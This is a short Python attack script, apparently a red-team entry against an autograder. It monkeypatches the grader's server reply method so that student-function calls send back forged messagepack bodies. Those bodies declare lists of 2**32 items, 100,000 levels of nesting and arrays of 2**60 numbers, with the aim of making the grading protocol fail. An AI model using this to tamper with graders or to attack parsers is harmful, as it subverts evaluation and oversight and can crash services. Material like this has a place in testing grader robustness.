# /// attack
# lines = [27]
# tries = "Patches the encoder to declare arrays of 2**60 numbers, lists of 2**32 items, nesting without end, huge integers."
# score = 10
# outcomes = { "1.1" = "protocol failure", "1.2" = "protocol failure", "3.1" = "protocol failure" }
# ///
import struct
import sys

_server = sys.modules["autograder.student.server"]
_frames = sys.modules["autograder.channel.frames"]
_reply, _body = _server.Server._reply, []


def _forged(self, sequence, content, encoder=None):
    if _body:
        return _frames.Message(_frames.Kind.REPLY, sequence, _body.pop())
    return _reply(self, sequence, content, encoder)


_server.Server._reply = _forged
_value = b"\x92\xa5value"


def step(z):
    _body[:] = [_value + b"\xdd\xff\xff\xff\xff"]  # a list of 2**32 - 1 items


def neuron(x, w, b, f):
    _body[:] = [_value + b"\x91" * 100_000 + b"\xc0"]  # a list in a list in a list


def boundary(weights, bias, x1):
    _body[:] = [_value + b"\x94\xa5array\xa7float64\x91\xcf" + struct.pack("!Q", 2**60) + b"\x00"]
